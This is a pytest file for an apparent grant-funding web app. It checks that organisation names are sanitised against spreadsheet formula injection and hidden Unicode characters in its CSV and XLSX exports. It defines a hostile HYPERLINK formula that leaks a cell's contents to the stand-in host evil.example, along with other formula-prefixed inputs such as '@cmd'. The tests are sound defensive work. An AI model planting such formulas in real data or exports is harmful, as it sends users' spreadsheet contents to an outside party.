"""Names cannot smuggle formulas into a spreadsheet, nor hide or reorder text."""

from __future__ import annotations

import csv
import io

import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlalchemy import update
from sqlalchemy.orm import Session

from grantpool.attribution import services as attribution
from grantpool.attribution.commands import ConsentChange, CreditSettings
from grantpool.attribution.rules import ConsentScope, ConsentState, LocationPrecision, Naming
from grantpool.organisations.models import Organisation
from grantpool.platform.cells import clean_name, spreadsheet_cell
from grantpool.platform.errors import ValidationFailed
from tests.conftest import signed_in_client
from tests.factories import make_organisation
from tests.publishing.helpers import published_grant

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def test_a_formula_is_quoted_and_everything_else_passes() -> None:
    for text in (HOSTILE, "+1+1", "-2", "@SUM(A1)", "\tx", "\rx"):
        assert spreadsheet_cell(text) == "'" + text
    for value in ("Water committee", "", 12, 3.5, None):
        assert spreadsheet_cell(value) == value


def test_names_lose_hidden_characters_and_may_not_begin_like_a_formula(app: Flask) -> None:
    name, problem = clean_name("Good\u202e reversed\u200b group\u0007")
    assert (name, problem) == ("Good reversed group", None)
    # Zero-width non-joiners are part of Persian words and stay.
    assert clean_name("انجمن\u200cها")[0] == "انجمن\u200cها"
    assert clean_name("  =1+1 ")[1] == "A name cannot begin with =, +, - or @."


def test_an_organisation_named_like_a_formula_is_refused(session: Session) -> None:
    with pytest.raises(ValidationFailed) as refused:
        make_organisation(session, name=HOSTILE)
    assert "cannot begin" in str(refused.value.errors["name"])
    with pytest.raises(ValidationFailed):
        make_organisation(session, short_name="@cmd")


def test_a_name_stored_before_the_check_reaches_every_export_as_text(
    app: Flask, client: FlaskClient, session: Session
) -> None:
    p = published_grant(session, organisation={"name": "Placeholder Group"})
    attribution.save_organisation_settings(
        session, p.partner, p.organisation, CreditSettings(Naming.OWN_NAME, LocationPrecision.AREA)
    )
    attribution.change_consent(
        session, p.partner, p.grant, ConsentChange(ConsentState.GIVEN, ConsentScope.NAMED)
    )
    # As if it had been written before names were checked.
    session.execute(
        update(Organisation).where(Organisation.id == p.organisation.id).values(name=HOSTILE)
    )
    session.commit()
    giving = client.get("/open-data/360giving.csv").get_data(as_text=True)
    cells = [cell for row in csv.reader(io.StringIO(giving)) for cell in row]
    assert "'" + HOSTILE in cells and HOSTILE not in cells

    manager = signed_in_client(app, p.world.manager)
    base = f"/dashboard/funds/{p.world.fund.id}/export/credits"
    body = manager.get(base + ".csv").get_data(as_text=True).lstrip("\ufeff")
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert any(c.startswith("'=HYPERLINK") for c in cells)
    assert not any(c.startswith("=") for c in cells)
    book = load_workbook(io.BytesIO(manager.get(base + ".xlsx").data))
    values = [c for row in book.active.iter_rows() for c in row if c.value is not None]
    hostile = [c for c in values if "HYPERLINK" in str(c.value)]
    assert all(c.data_type == "s" and not str(c.value).startswith("=") for c in hostile)
    assert any(str(c.value) == "'" + HOSTILE for c in hostile)
